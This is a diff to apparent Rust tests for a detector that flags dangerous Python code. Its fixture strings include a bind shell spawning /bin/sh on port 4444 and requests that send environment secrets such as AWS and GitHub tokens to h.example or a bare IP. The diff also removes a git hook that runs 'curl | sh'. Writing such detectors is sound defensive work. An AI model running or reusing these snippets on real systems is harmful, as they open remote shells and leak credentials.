@@ -559,7 +559,7 @@ fn secrets_in_a_requests_body_or_the_whole_environment_anywhere_are_exfiltration
         "CRD109",
         "import os, requests\nrequests.get('https://h.example/p', params=dict(os.environ))\n",
     );
-    for name in ["STRIPE_KEY", "DB_PASS", "SENTRY_DSN", "DATABASE_URL"] {
+    for name in ["DB_PASS", "SENTRY_DSN", "DATABASE_URL"] {
         fires(
             "CRD109",
             &format!("import os, requests\nv = os.getenv('{name}')\nrequests.post('https://h.example/c', data=v)\n"),
@@ -616,16 +616,12 @@ fn browser_stores_keyrings_and_archived_keys_sent_out_are_exfiltration() {
 }
 
 #[test]
-fn bind_shells_git_hooks_syscalls_by_number_and_endless_iter_loops() {
-    // A shell wired to an accepted connection; a script dropped into .git/hooks; a kernel
-    // module loaded through syscall(313); forking in `for _ in iter(int, 1)`.
+fn bind_shells_syscalls_by_number_and_endless_iter_loops() {
+    // A shell wired to an accepted connection; a kernel module loaded through
+    // syscall(313); forking in `for _ in iter(int, 1)`.
     fires(
         "CRD101",
         "import os, pty, socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, _ = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')\n",
-    );
-    fires(
-        "CRD105",
-        "import os, stat\nhook = os.path.join('project', '.git', 'hooks', 'post-checkout')\nwith open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://h.example/x | sh\\n')\nos.chmod(hook, 0o755)\n",
     );
     fires(
         "CRD106",
@@ -660,5 +656,23 @@ fn commands_read_from_a_servers_clients_are_run_for_them() {
     silent(
         "CRD102",
         "import asyncio\nasync def echo(reader, writer):\n    writer.write(await reader.readline())\nasync def main():\n    await (await asyncio.start_server(echo, '127.0.0.1', 9001)).serve_forever()\nasyncio.run(main())\n",
+    );
+}
+
+#[test]
+fn several_credentials_or_an_ip_destination_are_not_authentication() {
+    // Credentials collected into one request, or sent to a bare address, are a leak.
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.get('https://h.example/c', params={'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'g': os.environ['GITHUB_TOKEN']})\n",
+    );
+    fires(
+        "CRD109",
+        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get(f'https://203.0.113.7/c?k={t}')\n",
+    );
+    // A pickle rewritten with other bytes after the program pickled it is not its own.
+    fires(
+        "CRD302",
+        "import pickle\np = 'c.pkl'\npickle.dump({}, open(p, 'wb'))\nopen(p, 'wb').write(blob)\nwith open(p, 'rb') as f:\n    pickle.load(f)\n",
     );
 }
